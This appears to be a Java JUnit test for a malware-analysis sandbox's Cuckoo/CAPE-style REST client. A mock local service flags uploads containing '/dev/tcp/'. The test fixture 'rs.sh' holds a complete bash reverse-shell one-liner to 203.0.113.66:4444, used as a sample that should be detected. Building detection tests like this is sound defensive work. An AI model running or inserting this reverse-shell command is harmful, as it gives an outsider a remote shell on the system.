package dev.kiroku.sandbox.external;

import dev.kiroku.sandbox.AnalysisOptions;
import dev.kiroku.sandbox.Reason;
import dev.kiroku.sandbox.Report;
import dev.kiroku.sandbox.Verdict;
import dev.kiroku.sandbox.queue.AnalysisQueue;
import dev.kiroku.sandbox.queue.ReportStore;
import dev.kiroku.sandbox.queue.Submission;
import io.javalin.Javalin;
import io.javalin.http.UploadedFile;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.InstantSource;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The {@code Analyzer} seam with another implementation: the Cuckoo/CAPE REST client against a
 * service speaking that API over real HTTP (started here, as no CAPE runs on this machine; it
 * "analyses" by looking for a marker in the uploaded bytes and reports after two polls), plugged
 * into the same {@link AnalysisQueue} as the built-in analyser.
 */
class CuckooStyleAnalyzerTest {
    @TempDir
    Path dir;
    Javalin service;
    final Map<Integer, String> uploads = new ConcurrentHashMap<>();
    final AtomicInteger polls = new AtomicInteger();

    @BeforeEach
    void start() {
        AtomicInteger ids = new AtomicInteger();
        service = Javalin.create(config -> {
            config.startup.showJavalinBanner = false;
            config.routes.post("/apiv1/tasks/create/file", ctx -> {
                UploadedFile file = ctx.uploadedFile("file");
                if (file == null) {
                    ctx.status(400).json(Map.of("error", "no file"));
                    return;
                }
                int id = ids.incrementAndGet();
                try (var in = file.content()) {
                    uploads.put(id, new String(in.readAllBytes(), StandardCharsets.UTF_8));
                }
                ctx.json(Map.of("task_id", id));
            });
            config.routes.get("/apiv1/tasks/view/{id}", ctx -> ctx.json(Map.of("task", Map.of("status",
                    polls.incrementAndGet() % 3 == 0 ? "reported" : "running"))));
            config.routes.get("/apiv1/tasks/report/{id}", ctx -> {
                boolean bad = uploads.get(Integer.parseInt(ctx.pathParam("id"))).contains("/dev/tcp/");
                ctx.json(Map.of("info", Map.of("score", bad ? 9.1 : 0.4), "signatures", bad
                        ? List.of(Map.of("name", "network_reverse_shell", "description", "Opens a reverse shell", "severity", 3),
                        Map.of("name", "network_connects", "description", "Connects to an unusual port", "severity", 2),
                        Map.of("name", "persistence_cron", "description", "Writes a cron job", "severity", 3))
                        : List.of()));
            });
        }).start("127.0.0.1", 0);
    }

    @AfterEach
    void stop() {
        service.stop();
    }

    private CuckooStyleAnalyzer analyzer(Duration timeout) {
        return new CuckooStyleAnalyzer(URI.create("http://127.0.0.1:" + service.port() + "/apiv1"), Duration.ofMillis(50), timeout,
                InstantSource.system());
    }

    @Test
    void externalReportsComeThroughTheSameQueue() throws Exception {
        Path bad = Files.writeString(dir.resolve("rs.sh"), "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n");
        Path fine = Files.writeString(dir.resolve("ok.sh"), "#!/bin/sh\necho hello\n");
        try (AnalysisQueue queue = new AnalysisQueue(analyzer(Duration.ofSeconds(30)), new ReportStore(dir), dir, Duration.ofMinutes(1),
                InstantSource.system())) {
            Submission s1 = queue.submit(bad, "rs.sh", AnalysisOptions.defaults(), false);
            Submission s2 = queue.submit(fine, "ok.sh", AnalysisOptions.defaults(), false);
            Report high = queue.awaitReport(s1.sha256(), Duration.ofMinutes(1)).orElseThrow();
            assertThat(high.analyzer()).startsWith("cuckoo-style 127.0.0.1:");
            assertThat(high.verdict()).isEqualTo(Verdict.HIGH);
            assertThat(high.reasons()).extracting(Reason::code).contains("external.network_reverse_shell", "external.persistence_cron", "external.score");
            assertThat(high.reasons()).filteredOn(r -> r.code().equals("external.score")).singleElement()
                    .satisfies(r -> assertThat(r.summary()).contains("9.1 of 10"));
            assertThat(queue.awaitReport(s2.sha256(), Duration.ofMinutes(1)).orElseThrow().verdict()).isEqualTo(Verdict.NONE);
        }
        assertThat(uploads.values()).anySatisfy(u -> assertThat(u).contains("/dev/tcp/203.0.113.66/4444"));
    }

    @Test
    void aServiceThatFailsOrNeverReportsIsAReportLine() throws IOException, InterruptedException {
        Path file = Files.writeString(dir.resolve("x.sh"), "#!/bin/sh\n");
        Report down = new CuckooStyleAnalyzer(URI.create("http://127.0.0.1:" + service.port() + "/nothing-here"), Duration.ofMillis(50),
                Duration.ofSeconds(5), InstantSource.system()).analyze(dev.kiroku.sandbox.Sample.of(file), AnalysisOptions.defaults());
        assertThat(down.reasons()).singleElement().satisfies(r -> {
            assertThat(r.code()).isEqualTo("external.failed");
            assertThat(r.summary()).contains("answered 404");
        });
        polls.set(1); // the next poll says "running", and the deadline has passed
        Report late = analyzer(Duration.ofMillis(1)).analyze(dev.kiroku.sandbox.Sample.of(file), AnalysisOptions.defaults());
        assertThat(late.reasons()).singleElement().satisfies(r -> assertThat(r.summary()).contains("not reported within 0 s"));
    }
}
